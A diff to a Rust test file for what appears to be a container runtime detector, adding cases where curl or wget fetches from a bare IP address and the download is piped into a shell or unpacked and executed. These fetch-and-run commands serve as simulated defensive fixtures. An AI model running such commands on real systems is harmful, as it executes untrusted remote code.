@@ -73,6 +73,20 @@ fn a_shell_that_reads_from_a_download() {
     check(pipe(&["/bin/bash", "-s"], true), &["D-DLX-PIPESH corroborates"]);
     check(pipe(&["/usr/bin/python3", "-"], true), &["D-DLX-PIPESH corroborates"]);
     check(pipe(&["/bin/sh"], false), &[]);
+    // Nobody's project has a bare address.
+    check(
+        |scene| {
+            let fetcher = scene.born(FIRST);
+            let standard = [Descriptor::Null, Descriptor::Pipe(78), Descriptor::Null];
+            scene.exec_at(fetcher, &["/usr/bin/curl", "http://203.0.113.3/i"], Origin::Image, standard);
+            let flow = scene.connect(fetcher, None, "203.0.113.3:80");
+            receive(scene, flow, "true\n");
+            let shell = scene.born(FIRST);
+            let standard = [Descriptor::Pipe(78), Descriptor::Null, Descriptor::Null];
+            scene.exec_at(shell, &["/bin/sh"], Origin::Image, standard);
+        },
+        &["D-DLX-PIPESH convicts"],
+    );
     // It has a program of its own and reads data.
     check(pipe(&["/bin/sh", "-c", "wc -l"], true), &[]);
     check(pipe(&["/usr/bin/python3", "/app/parse.py"], true), &[]);
@@ -81,20 +95,28 @@ fn a_shell_that_reads_from_a_download() {
 
 #[test]
 fn compiled_and_run() {
-    let compile = |compiler: &'static str, parent: &'static [&'static str]| {
+    let compile = |compiler: &'static str, parent: &'static [&'static str], foreign: bool| {
         move |scene: &mut Scene| {
             let shell = run(scene, parent, Origin::Image);
+            if foreign {
+                scene.write(shell, "/opt/in.c");
+            }
             let linker = scene.born(shell);
             scene.exec(linker, &[compiler, "-o", "/opt/out"], Origin::Image);
+            let of = if foreign { Origin::Written } else { Origin::Image };
+            scene.read(linker, "/opt/in.c", of);
             scene.write(linker, "/opt/out");
             let made = scene.born(shell);
             scene.exec(made, &["/opt/out"], Origin::Written);
         }
     };
-    check(compile("/usr/bin/ld", &["/bin/sh", "/start.sh"]), &["D-DLX-COMPILE corroborates"]);
-    check(compile("/usr/bin/gcc-12", &["/bin/sh", "/start.sh"]), &["D-DLX-COMPILE corroborates"]);
-    check(compile("/usr/bin/ld", &["/bin/sh", "./configure"]), &[]);
-    check(compile("/usr/bin/cp", &["/bin/sh", "/start.sh"]), &["D-DLX-DROPEXEC corroborates"]);
+    let script = &["/bin/sh", "/start.sh"];
+    check(compile("/usr/bin/ld", script, true), &["D-DLX-COMPILE corroborates"]);
+    check(compile("/usr/bin/gcc-12", script, true), &["D-DLX-COMPILE corroborates"]);
+    // What comes out of the image's own sources is the image's own.
+    check(compile("/usr/bin/gcc-12", script, false), &["D-DLX-COMPILE context"]);
+    check(compile("/usr/bin/ld", &["/bin/sh", "./configure"], true), &[]);
+    check(compile("/usr/bin/cp", script, false), &["D-DLX-DROPEXEC corroborates"]);
 }
 
 #[test]
@@ -189,4 +211,54 @@ fn the_first_seconds_explain() {
     scene.image.configured_hosts.insert("database.example".into());
     scene.connect(FIRST, Some("database.example"), "198.18.5.5:5432");
     assert_eq!(scene.accused(), [""; 0]);
+}
+
+#[test]
+fn content_that_convicts_at_rest_convicts_the_image() {
+    let told = |condemned: [u8; 32]| {
+        let mut scene = Scene::of(&["/usr/bin/app"]);
+        scene.image.condemned.insert(condemned, "S-MIN-HASH".into());
+        let content = events::Content { sha256: [7; 32], length: 9, kept: true };
+        scene.host(events::HostAct::Captured { content });
+        scene.accused()
+    };
+    assert_eq!(told([7; 32]), ["D-DLX-RECURSE convicts"]);
+    assert_eq!(told([8; 32]), [""; 0]);
+}
+
+#[test]
+fn what_was_fetched_and_then_unpacked() {
+    let unpack = |reads: bool, result: i64| {
+        move |scene: &mut Scene| {
+            let fetcher = run(scene, &["/usr/bin/wget", "http://203.0.113.4/kit.tar"], Origin::Image);
+            let flow = scene.connect(fetcher, None, "203.0.113.4:80");
+            receive(scene, flow, "archive");
+            scene.write(fetcher, "/tmp/kit.tar");
+            let unpacker = run(scene, &["/bin/tar", "xf", "/tmp/kit.tar"], Origin::Image);
+            if reads {
+                scene.read(unpacker, "/tmp/kit.tar", Origin::Written);
+            }
+            scene.write(unpacker, "/opt/kit/start");
+            let program = scene.born(FIRST);
+            scene.exec_with_result(program, &["/opt/kit/start"], Origin::Written, result);
+        }
+    };
+    let (fetched, dropped) = ("D-DLX-FETCHEXEC convicts", "D-DLX-DROPEXEC corroborates");
+    check(unpack(true, 0), &[dropped, fetched]);
+    // Lying where nothing may be run changes nothing about what was meant.
+    check(unpack(true, -13), &[dropped, fetched]);
+    check(unpack(false, 0), &[dropped]);
+    check(unpack(true, -2), &[]);
+}
+
+#[test]
+fn linkers_by_their_long_names() {
+    for (name, expect) in [
+        (&b"x86_64-linux-gnu-ld.bfd"[..], &b"ld"[..]),
+        (b"aarch64-linux-musl-gcc-12", b"gcc-12"),
+        (b"ld", b"ld"),
+        (b"-linux-gnu-", b""),
+    ] {
+        assert_eq!(super::checks::plain_name(name), expect);
+    }
 }
